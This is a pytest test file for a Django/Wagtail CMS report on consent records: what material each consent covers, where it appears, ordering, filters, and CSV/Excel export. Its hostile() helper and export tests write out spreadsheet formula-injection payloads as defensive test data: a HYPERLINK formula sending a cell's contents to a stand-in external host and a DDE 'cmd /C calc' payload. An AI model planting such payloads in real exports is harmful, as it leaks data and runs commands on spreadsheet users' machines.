import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from bs4 import BeautifulSoup
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import ReferenceIndex

from cms.admin.spreadsheets import harmless
from cms.models import ConsentRecord
from tests.admin.conftest import address, everything, words
from tests.bodies import block
from tests.conftest import SignIn
from tests.factories import (
    ConsentRecordFactory,
    DonateCallToActionFactory,
    FilmFactory,
    ImageFactory,
    OpinionPageFactory,
    PersonFactory,
    StoryPageFactory,
    locale,
)

REPORT = "consent_report"


@pytest.fixture(autouse=True)
def _editor(sign_in: SignIn) -> None:
    sign_in("Editors")


def indexed(thing: Any) -> Any:
    ReferenceIndex.create_or_update_for_object(thing)
    return thing


def rows(client: Client, **asked: str) -> dict[str, list[str]]:
    """What the report says under each consent."""
    page = BeautifulSoup(client.get(reverse(REPORT), asked).content, "html.parser")
    found = [row.find_all("td") for row in page.select("main tbody tr")]
    return {cells[0].get_text(strip=True): [text_of(cell) for cell in cells[1:]] for cells in found}


def text_of(cell: Any) -> str:
    return " | ".join(" ".join(each.get_text(" ").split()) for each in cell.select("li") or [cell])


def exported(client: Client) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(everything(client, f"{reverse(REPORT)}?export=csv"))))


def test_names_what_was_made_under_a_consent_and_where_it_is_used(client: Client) -> None:
    consent = ConsentRecordFactory.create(given_by="Amina")
    portrait = ImageFactory.create(title="Portrait", consent=consent)
    person = indexed(PersonFactory.create(name="Amina", consent=consent, portrait=portrait))
    indexed(StoryPageFactory.create(title="Bread", authors=[person]))
    film = FilmFactory.create(title="Film", consent=consent)
    body = [block("video", {"video": film.pk, "caption": ""})]
    indexed(OpinionPageFactory.create(title="Water", body=body))

    _state, _until, material, places = rows(client)["Amina"]

    assert material == "Portrait image | Film audio or video | Amina person, Dutch"
    assert places == "Bread story, Dutch | Water opinion, Dutch"


def test_finds_a_picture_shown_through_a_call_to_action(client: Client) -> None:
    image = ImageFactory.create(consent=ConsentRecordFactory.create(given_by="Amina"))
    action = indexed(DonateCallToActionFactory.create(headline="Light", image=image))
    indexed(StoryPageFactory.create(title="Bread", call_to_action=action))

    places = rows(client)["Amina"][-1]

    assert places == "Bread story, Dutch | Light donate call to action, Dutch"


def test_says_when_nothing_is_shown_under_a_consent(client: Client) -> None:
    ConsentRecordFactory.create(given_by="Amina")

    assert rows(client)["Amina"][-2:] == ["Nothing", "Nothing"]


def test_the_most_urgent_comes_first(client: Client) -> None:
    soon = timezone.localdate() + timedelta(days=9)
    ConsentRecordFactory.create(given_by="Valid")
    ConsentRecordFactory.create(given_by="Print", print_only=True)
    ConsentRecordFactory.create(given_by="Withdrawn", withdrawn=True)
    ConsentRecordFactory.create(given_by="Lapsed", lapsed=True)
    ConsentRecordFactory.create(given_by="Soon", valid_until=soon)

    assert list(rows(client)) == ["Soon", "Lapsed", "Withdrawn", "Print", "Valid"]


def test_is_narrowed_by_state_day_and_name(client: Client) -> None:
    long_ago = timezone.localdate() - timedelta(days=400)
    ConsentRecordFactory.create(given_by="Amina", withdrawn=True)
    ConsentRecordFactory.create(given_by="Bram", given_on=long_ago, purpose="A film")

    assert list(rows(client, state="WITHDRAWN")) == ["Amina"]
    assert list(rows(client, given_on_to=f"{long_ago}")) == ["Bram"]
    assert list(rows(client, q="min")) == ["Amina"]
    assert list(rows(client, q="film")) == ["Bram"]
    assert rows(client, q="nobody") == {}


def test_withdrawing_shows_at_once(client: Client) -> None:
    consent = ConsentRecordFactory.create(given_by="Amina")
    assert rows(client)["Amina"][0] == "Valid"

    form = {"given_by": "Amina", "purpose": "All", "given_on": "2026-01-01", "scopes": ["WEB"]}
    client.post(address(consent), form | {"withdrawn_at": "2026-02-01 10:00"})

    assert not ConsentRecord.objects.get().is_valid
    assert rows(client)["Amina"][0] == "Withdrawn"


def test_an_export_has_the_same_rows(client: Client) -> None:
    consent = ConsentRecordFactory.create(given_by="Amina", lapsed=True)
    image = ImageFactory.create(title="Portrait", consent=consent)
    indexed(StoryPageFactory.create(title="Bread", hero=image))

    (row,) = exported(client)

    assert (row["Given by"], row["State"]) == ("Amina", "Lapsed")
    assert (row["Material"], row["Used in"]) == ("Portrait", "Bread")


@pytest.mark.parametrize(("language", "heading"), [("en", "Given by"), ("nl", "Gegeven door")])
def test_an_export_speaks_the_language_of_who_asked(
    client: Client, sign_in: SignIn, language: str, heading: str
) -> None:
    sign_in("Editors", language=language)

    assert everything(client, f"{reverse(REPORT)}?export=csv").startswith(heading)


def hostile(client: Client) -> list[str]:
    formula = '=HYPERLINK("https://elsewhere.example/?"&A1)'
    consent = ConsentRecordFactory.create(given_by=formula)
    image = ImageFactory.create(title="+1+cmd|' /C calc'!A0", consent=consent)
    indexed(StoryPageFactory.create(title="@SUM(1)", hero=image))
    return [f"'{formula}", "'+1+cmd|' /C calc'!A0", "'@SUM(1)"]


def test_no_cell_of_a_csv_is_a_formula(client: Client) -> None:
    expected = hostile(client)

    (row,) = exported(client)

    assert [row["Given by"], row["Material"], row["Used in"]] == expected


def test_no_cell_of_an_excel_file_is_a_formula(client: Client) -> None:
    expected = hostile(client)

    response: Any = client.get(f"{reverse(REPORT)}?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response))).active
    cells = next(sheet.iter_rows(min_row=2))

    assert [cells[0].value, *(cell.value for cell in cells[-2:])] == expected
    assert {cell.data_type for cell in cells} <= {"s", "d", "n"}


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", " =1"),
        *("\N{NO-BREAK SPACE}=1", "\N{ZERO WIDTH SPACE}=1"),
        *("\N{FULLWIDTH EQUALS SIGN}1", "\N{SMALL PLUS SIGN}1"),
    ],
)
def test_a_text_a_spreadsheet_could_run_is_quoted(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Amina", "1 = 1", "2026-01-01", "“=1”", "a-b"])
def test_any_other_text_is_left_alone(text: str) -> None:
    assert harmless(text) == text


def test_takes_no_more_statements_for_more_consents(client: Client) -> None:
    def fill(number: int) -> int:
        for _ in range(number):
            image = ImageFactory.create(consent=ConsentRecordFactory.create())
            indexed(StoryPageFactory.create(hero=image))
            indexed(PersonFactory.create(portrait=image, locale=locale("de")))
        client.get(reverse(REPORT))
        with CaptureQueriesContext(connection) as statements:
            client.get(reverse(REPORT))
        return len(statements)

    assert fill(2) == fill(6) < 40


def test_an_empty_report_says_so(client: Client) -> None:
    assert "There are no results." in words(client.get(reverse(REPORT)))
